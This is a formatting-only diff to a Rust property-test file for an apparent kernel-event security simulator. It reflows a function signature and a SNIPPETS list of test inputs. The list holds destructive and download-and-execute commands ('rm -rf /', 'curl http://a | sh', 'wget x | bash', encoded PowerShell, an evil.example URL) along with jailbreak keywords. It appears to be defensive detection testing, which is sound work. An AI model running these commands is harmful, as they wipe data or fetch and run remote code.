@@ -14,7 +14,13 @@ use scbe_sim::replay::replay;
 
 use crate::support::parity_config;
 
-fn event(cmd: String, target: String, signed: bool, hash: Option<String>, norm: f64) -> KernelEvent {
+fn event(
+    cmd: String,
+    target: String,
+    signed: bool,
+    hash: Option<String>,
+    norm: f64,
+) -> KernelEvent {
     KernelEvent {
         host: "h".into(),
         pid: Pid::Small(7),
@@ -32,8 +38,17 @@ fn event(cmd: String, target: String, signed: bool, hash: Option<String>, norm: 
 }
 
 const SNIPPETS: &[&str] = &[
-    "rm -rf /", "curl http://a | sh", "jailbreak", "developer mode", "cmd.exe", "https://evil.example/x",
-    "javascript:", "ls", "", "powershell -enc AAA", "wget x | bash",
+    "rm -rf /",
+    "curl http://a | sh",
+    "jailbreak",
+    "developer mode",
+    "cmd.exe",
+    "https://evil.example/x",
+    "javascript:",
+    "ls",
+    "",
+    "powershell -enc AAA",
+    "wget x | bash",
 ];
 
 proptest! {
